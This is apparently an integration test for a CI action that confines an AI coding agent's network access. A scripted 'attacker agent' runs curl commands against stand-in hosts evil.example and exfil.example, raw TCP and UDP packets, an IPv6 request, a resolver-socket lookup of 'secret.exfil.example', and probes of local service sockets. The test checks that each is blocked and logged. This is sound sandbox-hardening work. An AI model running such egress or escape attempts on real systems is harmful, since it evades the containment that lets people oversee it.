/**
 * network: restricted (the default) against an agent that tries to get out (issue 28): through the forward proxy
 * to host names not allowed (plain HTTP and TLS), a raw TCP connection to 127.0.0.2 (standing in for the
 * internet: not the proxies' address), a datagram to a fake resolver there, and IPv6 to ::1; through a local
 * daemon (issue 39): a stand-in resolver daemon on a unix socket (mode 0666, as systemd-resolved's varlink socket
 * is) and every well-known service socket this host has (D-Bus, docker, …), none of which it reaches; and an allowed
 * name (`localhost`, through the proxy) that reaches its server. The model calls work (the run finishes); every
 * refused host and the dropped packets are in the job summary; no rule of the run is left. As root and as a
 * hosted runner's sudo user, and in both modes (the TUI's tmux server is the agent's too, behind the same rules).
 */
import { createSocket } from 'node:dgram';
import { chmod, lstat, mkdtemp, readFile, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { SERVICE_SOCKETS } from '../../src/isolation/local-services.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Script } from '../../src/fake/gemini-api.js';
import { EGRESS_WRAPPER } from '../../src/isolation/egress-wrapper.js';
import { exec } from '../../src/util/exec.js';
import { hostLabel, hostedRunner, type RunnerUser } from '../harness/hosted-runner.js';
import { ActionWorld } from '../harness/action-job.js';
import { useActionWorld } from '../harness/action-world.js';

const root = process.getuid?.() === 0;

async function listen(server: Server, host: string): Promise<number> {
  await new Promise<void>((r) => server.listen(0, host, r));
  return (server.address() as AddressInfo).port;
}

function attack(
  p: { outside: number; v6: number; udp: number; allowed: number },
  sockets: { resolver: string; wellKnown: readonly string[] },
): Script {
  const command = [
    `curl -s -m 5 -w 'EVIL %{http_code}\\n' http://evil.example/ >> NET.txt;`,
    `curl -s -m 5 https://exfil.example/; echo "TLS $?" >> NET.txt;`,
    `curl -s -m 5 --noproxy '*' http://127.0.0.2:${p.outside}/; echo "RAW $?" >> NET.txt;`,
    `echo query > /dev/udp/127.0.0.2/${p.udp}; echo "DNS $?" >> NET.txt;`,
    `curl -s -m 5 -g --noproxy '*' http://[::1]:${p.v6}/; echo "V6 $?" >> NET.txt;`,
    `curl -s -m 5 --noproxy '' http://localhost:${p.allowed}/ >> NET.txt;`,
    `curl -s -m 5 --unix-socket '${sockets.resolver}' 'http://resolver/lookup?name=secret.exfil.example' >> NET.txt; echo "RESOLVER $?" >> NET.txt;`,
    ...sockets.wellKnown.map(
      (s) =>
        `curl -s -m 5 --unix-socket '${s}' http://localhost/ > /dev/null 2>&1; echo "SOCKET ${s} $?" >> NET.txt;`,
    ),
    "git add NET.txt && git commit -q -m 'Network'",
  ].join(' ');
  return {
    description: 'an agent that tries to reach the outside',
    steps: [
      { functionCalls: [{ name: 'run_shell_command', args: { command, description: 'Reach out' } }] },
      { text: 'Tried the network.' },
    ],
  };
}

describe.skipIf(!root)('network: restricted (action, attacker agent)', () => {
  const cases = [
    ['root', 'headless'],
    ['root', 'interactive'],
    ['hosted', 'headless'],
    ['hosted', 'interactive'],
  ] as const;
  for (const [host, mode] of cases) {
    describe(`${hostLabel(host)}, ${mode}`, () => {
      let world: ActionWorld;
      let asUser: RunnerUser | undefined;
      let release: (() => Promise<void>) | undefined;
      const worldOf = useActionWorld({ shared: true });
      const reached: string[] = [];
      const servers: Server[] = [];
      const udp = createSocket('udp4');
      let ports = { outside: 0, v6: 0, udp: 0, allowed: 0 };
      let resolverDir = '';
      let sockets = { resolver: '', wellKnown: [] as string[] };
      beforeAll(async () => {
        world = worldOf();
        if (host === 'hosted') ({ user: asUser, release } = await hostedRunner(world));
        const serve = (name: string) => {
          const s = createServer((_, res) => {
            reached.push(name);
            res.end(`${name}-REACHED\n`);
          });
          servers.push(s);
          return s;
        };
        udp.on('message', () => reached.push('udp'));
        await new Promise<void>((r) => udp.bind(0, '127.0.0.2', r));
        ports = {
          outside: await listen(serve('OUTSIDE'), '127.0.0.2'),
          v6: await listen(serve('V6'), '::1'),
          udp: udp.address().port,
          // Dual stack: the proxy may resolve localhost to either family.
          allowed: await listen(serve('ALLOWED'), '::'),
        };
        // The stand-in resolver daemon: it would look the name up for whoever asks, as itself.
        resolverDir = await mkdtemp(join(tmpdir(), 'gemini-run-resolved-'));
        await chmod(resolverDir, 0o755);
        const resolver = join(resolverDir, 'io.systemd.Resolve');
        await new Promise<void>((r) => serve('RESOLVER').listen(resolver, r));
        await chmod(resolver, 0o666);
        const present = await Promise.all(
          SERVICE_SOCKETS.map((p) =>
            lstat(p).then(
              (st) => (st.isSocket() ? p : undefined),
              () => undefined,
            ),
          ),
        );
        sockets = { resolver, wellKnown: present.filter((p): p is string => p !== undefined) };
      });
      afterAll(async () => {
        for (const s of servers) await new Promise((r) => s.close(r));
        udp.close();
        await rm(resolverDir, { recursive: true, force: true });
        await release?.();
      });

      it('refuses every way out but the allowed host, lists them, finishes, and leaves no rule', async () => {
        const r = await world.run({
          mode,
          script: attack(ports, sockets),
          // localhost resolves to loopback, inside the runner: reached only because its addresses are named too.
          inputs: { 'allowed-hosts': 'localhost 127.0.0.1 ::1' },
          ...(asUser ? { asUser } : {}),
        });
        expect(r.main.outputs.status, r.main.stdout + r.main.stderr).toBe('finished');
        const net = (await world.originFile('gemini-run/issue-1', 'NET.txt')).trim().split('\n');
        expect(net[0]).toMatch(/^gemini-run: evil\.example:80 is not an allowed host of this run/);
        expect(net[1]).toBe('EVIL 403');
        for (const tag of ['TLS', 'RAW', 'DNS', 'V6']) {
          const line = net.find((l) => l.startsWith(`${tag} `));
          expect(line, net.join('\n')).toBeDefined();
          expect(line).not.toBe(`${tag} 0`);
        }
        expect(net).toContain('ALLOWED-REACHED');
        expect(reached).toEqual(['ALLOWED']);
        // No local daemon answered the agent: curl could not connect (7) to any of their sockets.
        expect(net).toContain('RESOLVER 7');
        for (const s of sockets.wellKnown) expect(net).toContain(`SOCKET ${s} 7`);
        expect(r.main.stdout).toMatch(
          /mount namespace of their own with \d+ local service socket\(s\) hidden/,
        );
        expect(r.main.summary).not.toContain('the agent could reach');
        // Visible: the job summary lists both refused names and counts the dropped packets.
        expect(r.main.summary).toMatch(
          /\*\*Network `restricted`: 2 request\(s\) to 2 host\(s\) refused, \d+ direct packet/,
        );
        expect(r.main.summary).toContain('| `evil.example` | 80 | 1 |');
        expect(r.main.summary).toContain('| `exfil.example` | 443 | 1 |');
        const dropped = Number(/(\d+) direct packet\(s\) dropped/.exec(r.main.summary)?.[1]);
        expect(dropped).toBeGreaterThanOrEqual(3);
        // And where they went, by address and port. As a hosted runner the filter goes through setup's iptables
        // wrapper when one is installed (machine-wide, by action-isolation's self-hosted case): one written by an
        // older gemini-run refuses the accounting rule, and the run says so instead.
        const unnamed = 'network: the packet filter will count the direct packets it drops but not name';
        if (host === 'hosted' && r.main.stdout.includes(unnamed)) {
          expect(await readFile(EGRESS_WRAPPER, 'utf8')).not.toContain('hashlimit');
        } else {
          expect(r.main.stdout).not.toContain(unnamed);
          expect(r.main.summary).toContain('| Dropped direct destination | Port | Attempts |');
          expect(r.main.summary).toContain(`| \`127.0.0.2\` | ${ports.outside} | 1 |`);
          expect(r.main.summary).toContain(`| \`127.0.0.2\` | ${ports.udp} | 1 |`);
          expect(r.main.summary).toContain(`| \`::1\` | ${ports.v6} | 1 |`);
        }
        expect(r.main.state.egress ?? '').toBe('');
        const rules = await exec('iptables', ['-w', '10', '-S'], { allowAllExitCodes: true });
        const rules6 = await exec('ip6tables', ['-w', '10', '-S'], { allowAllExitCodes: true });
        // This run's chain, by name: the agent's uid may already be another run's (on the other worker) by now.
        const chain = /the packet filter is the chain (GEMINI-RUN-[0-9a-f-]+)\./.exec(r.main.stdout)?.[1];
        expect(chain, r.main.stdout).toBeDefined();
        expect(rules.stdout + rules6.stdout).not.toContain(chain!);
        expect(r.post.exitCode).toBe(0);
      });
    });
  }
});
